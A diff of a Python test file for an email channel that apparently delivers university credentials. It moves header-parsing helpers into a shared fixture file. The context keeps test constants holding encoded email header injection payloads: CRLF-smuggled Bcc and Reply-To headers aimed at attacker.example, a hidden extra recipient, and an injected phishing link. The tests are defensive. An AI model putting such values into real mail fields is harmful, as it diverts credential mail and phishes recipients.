@@ -7,9 +7,7 @@ The names that carried the attacks are shown to the reader as the text they were
 from __future__ import annotations
 
 import email
-import email.header
 import email.policy
-import email.utils
 import subprocess
 import sys
 from pathlib import Path
@@ -21,7 +19,7 @@ from bridge.delivery.email import EmailChannel, parse_smtp_url
 from bridge.delivery.messages import compose, render
 from bridge.edc.inputs import header_text
 
-from .conftest import make_job
+from .conftest import header_block, make_job, shown_name
 
 REPO = Path(__file__).resolve().parents[2]
 MAIL_FROM = "Vilnius University credentials <credentials@edc.example.edu>"
@@ -33,26 +31,6 @@ Q_CRLF_BCC = "Ona =?utf-8?q?=0D=0ABcc:_evil2=40attacker.example?="
 B_SECOND_ADDRESS = "=?utf-8?b?IiA8ZXZpbEBhdHRhY2tlci5leGFtcGxlPiwgIng=?="  # '" <evil@attacker.example>, "x'
 HEADER_END_HTML = ("Data =?utf-8?q?=0D=0AReply-To:_evil=40attacker.example=0D=0A=0D=0A"
                    "<html><a_href=3D'http://attacker.example'>verify_here</a></html>?= literacy")
-
-
-def header_block(raw: bytes) -> list[str]:
-    """The unfolded header lines of the top of a raw message."""
-    head = raw.split(b"\r\n\r\n", 1)[0].decode("ascii", "replace")
-    lines: list[str] = []
-    for line in head.split("\r\n"):
-        if line[:1] in (" ", "\t") and lines:
-            lines[-1] += line
-        else:
-            lines.append(line)
-    return lines
-
-
-def shown_name(raw: bytes) -> str:
-    """The To display name as an RFC 2047 reader shows it: adjacent encoded words joined without the folding
-    white space between them (Python's modern address parser keeps that space; mail clients do not)."""
-    to = next(line for line in header_block(raw) if line.lower().startswith("to:"))[3:]
-    (display, _addr), = email.utils.getaddresses([to])
-    return str(email.header.make_header(email.header.decode_header(display)))
 
 
 def assert_only_our_headers(raw: bytes, learner: str) -> email.message.EmailMessage:
